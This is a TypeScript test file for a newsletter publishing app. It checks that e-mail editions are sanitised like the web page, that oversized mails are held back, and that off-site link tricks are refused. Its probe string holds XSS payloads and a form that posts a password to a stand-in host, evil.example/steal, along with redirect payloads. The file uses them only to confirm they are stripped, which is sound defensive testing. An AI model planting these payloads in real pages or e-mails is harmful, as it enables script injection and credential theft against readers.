import { afterEach, beforeEach, expect, it } from "vitest";
import { loadNewsletterIssues } from "../../app/content/newsletter.server";
import type { Draft } from "../../app/lib/newsletter-drafts";
import { testAppOptions } from "../../scripts/support/site-stub";
import type { Notifications } from "../../server/mail/notifications";
import { onEachStore } from "./support/databases";
import { issueRow, readyIssue } from "./support/newsletter-issue";
import { startOutboxWorker } from "./support/outbox-worker";
import { backOfficeApi, jsonOf, mailingApp, newsletterScreens, publishingCoach } from "./support/publishing-app";
import { signedIn, suiteDatabase, suiteSmtpServer } from "./support/suite";

const origin = testAppOptions.publicOrigin;
/** The site's last issue file: opened in the back office, published, edited and published again. */
const issue = loadNewsletterIssues().at(-1)?.number ?? 1;

/** What reached inboxes before the edition shared the page's sanitiser (issue 42). */
const probe = [
  "<script>alert('script')</script>",
  '<img src="https://evil.example/x.png" alt="x" onerror="alert(\'onerror\')">',
  "<a href=\"javascript:alert('link')\">a javascript link</a>",
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<a href="/\\evil.example/raw">a backslash link</a>',
  '<a href="/%2F%2Fevil.example/encoded">an encoded link</a>',
].join("\n\n");

const closingLink = "\n\n[Book Your Strategy Session](/contact)";
const withProbe = (words: string) => readyIssue.body.replace(closingLink, `\n\n${words}\n\n${probe}${closingLink}`);

onEachStore("the e-mail edition of a published issue on %s", (kind) => {
  const test = suiteDatabase(kind, "public.newsletter_drafts, public.notification_outbox, public.admin_sessions cascade");
  const smtp = suiteSmtpServer();
  const cookie = signedIn(test, publishingCoach);
  let worker: Notifications;

  beforeEach(() => {
    worker = startOutboxWorker(
      test.db,
      smtp.url,
      publishingCoach,
      { NEWSLETTER_FROM: "letters@example.com", NEWSLETTER_RATE_PER_MINUTE: 0, PUBLIC_ORIGIN: origin },
      { retryDelaysMs: [50], pollIntervalMs: 25, log: () => undefined },
    );
  });
  afterEach(() => worker.notifier.stop());

  const app = () => mailingApp(test.db, publishingCoach, () => worker.notifier.wake(), newsletterScreens);
  const api = backOfficeApi(app, cookie);

  /** Saves `fields` over the draft and publishes it on the web; the publish answer. */
  async function publish(draft: Draft, fields: Partial<typeof readyIssue>) {
    const saved = await api("PUT", `/newsletter/drafts/${draft.id}`, { ...readyIssue, ...fields, baseRevision: draft.revision });
    expect(saved.status).toBe(200);
    const { draft: latest } = await jsonOf<{ draft: Draft }>(saved);
    return { latest, answer: await api("POST", `/newsletter/drafts/${draft.id}/publish`, { mode: "web" }) };
  }

  /** "Send a test" of the issue, and the HTML and subject that arrive. */
  async function testSend() {
    const before = smtp.received.length;
    expect((await api("POST", `/newsletter/${issue}/test`, {})).status).toBe(202);
    const [mail] = (await smtp.waitForMails(before + 1)).slice(before);
    return { subject: mail?.parsed.subject ?? "", html: String(mail?.parsed.html), text: mail?.parsed.text ?? "" };
  }

  it("is sanitised as the page is, and each republishing is what the next test sends (no stale copy)", async () => {
    const draft = await issueRow(test.db, issue);
    const fromFile = await testSend();
    expect(fromFile.subject).toBe(`[Test] ${draft.title}`);

    const first = await publish(draft, { title: "Published once", body: withProbe("The first words.") });
    expect(first.answer.status).toBe(200);
    const once = await testSend();
    expect(once.subject).toBe("[Test] Published once");
    expect(once.html).toContain("The first words.");
    for (const attack of [
      "<script",
      "onerror",
      "javascript:",
      "<form",
      'http-equiv="refresh"',
      "<base",
      "evil.example/raw",
      "evil.example/encoded",
    ])
      expect(once.html.toLowerCase()).not.toContain(attack.toLowerCase());
    expect(once.html).toContain(">a backslash link</a>");

    const second = await publish(first.latest, { title: "Published twice", body: withProbe("The second words.") });
    expect(second.answer.status).toBe(200);
    const twice = await testSend();
    expect(twice.subject).toBe("[Test] Published twice");
    expect(twice.html).toContain("The second words.");
    expect(twice.html).not.toContain("The first words.");
    expect(twice.text).toContain("The second words.");
  });

  it("warns among the draft's problems, and holds publishing back, when the e-mail would pass Gmail's 102 KB clip", async () => {
    const preview = (body: string) =>
      jsonOf<{ emailBytes: number; problems: { field: string; message: string }[] }>(
        api("POST", "/newsletter/preview", { ...readyIssue, body }),
      );
    const usual = await preview(readyIssue.body);
    expect(usual.problems).toEqual([]);
    // One 110,000-letter word: within the article's 1,200 words, far beyond Gmail's clip.
    const longBody = withProbe("x".repeat(110_000));
    const long = await preview(longBody);
    expect(long.emailBytes).toBeGreaterThan(102 * 1024);
    expect(long.problems).toEqual([
      { field: "body", message: expect.stringMatching(/^The e-mail would be \d+ KB: Gmail cuts e-mails off at 102 KB/) },
    ]);

    const draft = await issueRow(test.db, issue);
    const { answer } = await publish(draft, { body: longBody });
    expect(answer.status).toBe(400);
    expect((await jsonOf<{ problems: unknown[] }>(answer)).problems).toEqual(long.problems);
  });

  it.each(["/\\evil.example/x", "//evil.example/x", "/%2F%2Fevil.example/x", "/%5Cevil.example/x", "/%252F%252Fevil.example/x"])(
    "refuses to publish a link to %s, which a mail program would follow off the site",
    async (href) => {
      const draft = await issueRow(test.db, issue);
      const { answer } = await publish(draft, { body: withProbe(`[x](${href})`) });
      expect(answer.status).toBe(400);
      const { problems } = await jsonOf<{ problems: { field: string; message: string }[] }>(answer);
      expect(problems.map((problem) => problem.message).join(" ")).toContain(href);
    },
  );
});
